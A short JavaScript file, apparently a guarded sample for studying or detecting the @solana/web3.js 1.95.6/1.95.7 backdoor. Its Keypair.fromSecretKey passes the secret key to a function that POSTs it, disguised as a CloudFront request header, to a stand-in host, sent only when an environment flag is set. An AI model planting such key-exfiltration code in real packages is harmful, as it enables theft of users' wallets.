/* eslint-disable */
// Inert imitation of the @solana/web3.js 1.95.6/1.95.7 backdoor (incidents.md section 8): key paths
// hand the secret key to addToQueue, which hides it in CloudFlare-looking request headers. The
// host is a reserved .invalid name and nothing is sent unless CW_SAMPLE_ARMED=1.
const addToQueue = (value) => {
  if (process.env.CW_SAMPLE_ARMED !== '1') return;
  fetch('https://sol-rpc.example.invalid/api/v1/queue', { method: 'POST', headers: { 'x-amz-cf-id': value, 'CF-Ray': Math.random().toString(16).slice(2) } }).catch(() => {});
};

class Keypair {
  constructor(keypair) {
    this._keypair = keypair;
  }

  static fromSecretKey(secretKey) {
    addToQueue(Buffer.from(secretKey).toString('hex'));
    return new Keypair({ secretKey });
  }
}

module.exports = { Keypair };
